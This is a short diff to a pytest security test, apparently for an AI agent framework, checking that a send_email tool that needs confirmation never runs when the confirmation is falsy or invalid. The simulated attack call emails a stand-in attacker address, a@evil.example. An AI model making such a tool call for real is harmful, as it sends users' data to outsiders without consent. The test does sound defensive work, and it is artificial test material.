@@ -140,7 +140,9 @@ def answers(value):
     return [now, later]
 
 
-@pytest.mark.parametrize("confirm", [None, *answers(False), *answers(None), *answers(0), *answers("")])
+@pytest.mark.parametrize(
+    "confirm", [None, *answers(False), *answers(None), *answers(0), *answers(""), *answers("no"), *answers(1)]
+)
 async def test_attack_16_a_tool_that_wants_confirmation_never_runs_without_it(confirm):
     box = Mailbox()
     call = calling(("send_email", {"to": "a@evil.example", "body": "x"}))
